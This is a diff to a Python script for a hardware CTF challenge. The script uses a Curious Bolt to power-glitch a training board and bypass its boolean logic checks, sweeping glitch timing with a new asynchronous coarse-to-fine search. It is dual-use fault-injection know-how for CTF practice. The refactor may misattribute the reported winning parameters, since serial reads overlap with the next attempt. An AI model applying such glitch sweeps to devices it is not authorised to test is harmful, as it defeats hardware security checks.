@@ -10,11 +10,13 @@ or evaluate it incorrectly.
 """
 
 import sys
-import serial
 import time
-from scope import Scope
 
-print("""
+# pyserial, numpy, and the Scope probe are imported where first needed so the
+# banner and wiring instructions appear immediately
+
+# Emit the whole banner in one write instead of a flush per print
+sys.stdout.write("""
 ╔══════════════════════════════════════════════════════════════════════╗
 ║                                                                      ║
 ║  Curious Bolt CTF - Challenge 2: Boolean Glitching                  ║
@@ -22,13 +24,8 @@ print("""
 ║  Objective: Use power glitching to bypass logic checks              ║
 ║                                                                      ║
 ╚══════════════════════════════════════════════════════════════════════╝
-""")
-
-print("\n" + "="*70)
-print("WIRING INSTRUCTIONS")
-print("="*70)
 
-print("""
+""" + "\n" + "="*70 + "\nWIRING INSTRUCTIONS\n" + "="*70 + "\n" + """
 For Power Glitching:
 ────────────────────────────────────────────────────────────
 
@@ -71,6 +68,7 @@ print("="*70)
 # Connect to Curious Bolt
 print("\n[1] Connecting to Curious Bolt...")
 try:
+    from scope import Scope
     s = Scope()
     print(f"    ✅ Connected (version {s.con.version if hasattr(s.con, 'version') else 'unknown'})")
 except Exception as e:
@@ -80,6 +78,7 @@ except Exception as e:
 # Connect to serial monitor
 print("\n[2] Connecting to Bolt CTF serial...")
 try:
+    import serial
     ser = serial.Serial('/dev/cu.usbserial-110', 115200, timeout=0.1)
     print("    ✅ Connected")
 except Exception as e:
@@ -143,64 +142,148 @@ print("""
 Now we'll automatically sweep glitch parameters to find the right timing.
 
 Sweep ranges:
-  - Width (repeat): 10 to 200 cycles, step 5
-  - Offset: 0 to 500 cycles, step 10
+  - Width (repeat): 10 to 200 cycles
+  - Offset: 0 to 500 cycles
 
-This will try ~2000 combinations. Watch the serial output!
+The sweep is coarse-to-fine: a quick coarse pass first, then dense
+steps only around settings that made the target produce output.
+Watch the serial output!
 """)
 
 response = input("\nStart automated sweep? (y/n): ").strip().lower()
 
 if response == 'y':
+    import asyncio
+    import numpy as np
+
     print("\n🔄 Starting parameter sweep...")
     print("(Press Ctrl+C to stop)")
 
     success = False
-    attempts = 0
     start_time = time.time()
 
+    def coarse_grid():
+        """Shuffled coarse (repeat, offset) grid covering the whole space."""
+        grid = np.array(np.meshgrid(np.arange(10, 200, 20), np.arange(0, 500, 40))).T.reshape(-1, 2)
+        np.random.default_rng().shuffle(grid)
+        return [tuple(p) for p in grid.tolist()]
+
+    def refine_around(cells, visited):
+        """Dense fine-step windows around cells that produced serial activity."""
+        out = []
+        for r, o in cells:
+            for rr in range(max(10, r - 20), min(200, r + 25), 5):
+                for oo in range(max(0, o - 40), min(500, o + 50), 10):
+                    if (rr, oo) not in visited:
+                        visited.add((rr, oo))
+                        out.append((rr, oo))
+        return out
+
+    # Shared between the driver and listener coroutines; 'interesting' holds
+    # cells where the target emitted anything at all, flag or not
+    state = {'attempts': 0, 'repeat': 0, 'offset': 0, 'output': '', 'interesting': set()}
+
+    async def run_sweep():
+        """
+        Overlap glitch driving with serial monitoring.
+
+        The driver arms and fires each (repeat, offset) attempt while the
+        listener drains the serial port in a worker thread, so reading the
+        previous attempt's UART output overlaps with configuring the next
+        glitch instead of running strictly after it.
+        """
+        found = asyncio.Event()
+
+        # Hoist I/O references out of the hot loop; skip progress output
+        # entirely when stdout is piped to a file
+        glitch = s.glitch
+        trigger = s.trigger
+        isatty = sys.stdout.isatty()
+
+        async def listener():
+            if ser is None:
+                await found.wait()
+                return
+            loop = asyncio.get_running_loop()
+            while not found.is_set():
+                data = await loop.run_in_executor(None, ser.read, ser.in_waiting or 1)
+                if data:
+                    # Any output at all marks this cell as worth densifying
+                    state['interesting'].add((state['repeat'], state['offset']))
+                    text = data.decode('ascii', errors='ignore')
+                    if 'ctf' in text.lower() or 'flag' in text.lower():
+                        state['output'] = text
+                        found.set()
+
+        async def attempt(repeat, offset):
+            state['attempts'] += 1
+            state['repeat'] = repeat
+            state['offset'] = offset
+
+            # Configure and fire
+            glitch.repeat = repeat
+            glitch.ext_offset = offset
+            trigger()
+
+            # Yield to the listener while the target responds
+            await asyncio.sleep(0.01)
+
+            # Progress indicator
+            if isatty and state['attempts'] % 50 == 0:
+                sys.stdout.write("  [%4d] repeat=%3d, offset=%3d\r" % (state['attempts'], repeat, offset))
+                sys.stdout.flush()
+
+        async def driver():
+            # Coarse-to-fine: sweep a sparse grid, then densify only around
+            # cells that made the target respond
+            schedule = coarse_grid()
+            visited = set(schedule)
+
+            refined = False
+            i = 0
+            while i < len(schedule) and not found.is_set():
+                repeat, offset = schedule[i]
+                i += 1
+                await attempt(repeat, offset)
+
+                if i == len(schedule) and not refined:
+                    refined = True
+                    schedule.extend(refine_around(state['interesting'], visited))
+
+            # Let the final attempt's output arrive before giving up
+            if not found.is_set():
+                try:
+                    await asyncio.wait_for(found.wait(), timeout=0.5)
+                except asyncio.TimeoutError:
+                    pass
+            found.set()
+
+        listen_task = asyncio.ensure_future(listener())
+        await driver()
+        await listen_task
+
     try:
-        for repeat in range(10, 200, 5):
-            if success:
-                break
-
-            for offset in range(0, 500, 10):
-                attempts += 1
-
-                # Configure
-                s.glitch.repeat = repeat
-                s.glitch.ext_offset = offset
-
-                # Trigger glitch
-                s.trigger()
-                time.sleep(0.05)
-
-                # Check serial output
-                if ser and ser.in_waiting:
-                    data = ser.read(ser.in_waiting).decode('ascii', errors='ignore')
-
-                    if 'ctf' in data.lower() or 'flag' in data.lower():
-                        elapsed = time.time() - start_time
-                        print(f"\n{'='*70}")
-                        print("🎉 SUCCESS!")
-                        print(f"{'='*70}")
-                        print(f"Winning parameters:")
-                        print(f"  repeat: {repeat} cycles ({repeat * 8.3:.1f}ns)")
-                        print(f"  offset: {offset} cycles ({offset * 8.3:.1f}ns)")
-                        print(f"  attempts: {attempts}")
-                        print(f"  time: {elapsed:.1f}s")
-                        print(f"\nFlag output:")
-                        print(data)
-                        print("="*70)
-                        success = True
-                        break
-
-                # Progress indicator
-                if attempts % 50 == 0:
-                    print(f"  [{attempts:4d}] repeat={repeat:3d}, offset={offset:3d}", end='\r')
+        asyncio.run(run_sweep())
+
+        if state['output']:
+            elapsed = time.time() - start_time
+            print(f"\n{'='*70}")
+            print("🎉 SUCCESS!")
+            print(f"{'='*70}")
+            print(f"Winning parameters:")
+            print(f"  repeat: {state['repeat']} cycles ({state['repeat'] * 8.3:.1f}ns)")
+            print(f"  offset: {state['offset']} cycles ({state['offset'] * 8.3:.1f}ns)")
+            print(f"  attempts: {state['attempts']}")
+            print(f"  time: {elapsed:.1f}s")
+            print(f"\nFlag output:")
+            print(state['output'])
+            print("="*70)
+            success = True
 
     except KeyboardInterrupt:
-        print(f"\n\n⚠️  Sweep stopped by user after {attempts} attempts")
+        print(f"\n\n⚠️  Sweep stopped by user after {state['attempts']} attempts")
+
+    attempts = state['attempts']
 
     if not success:
         print(f"\n⚠️  No success after {attempts} attempts")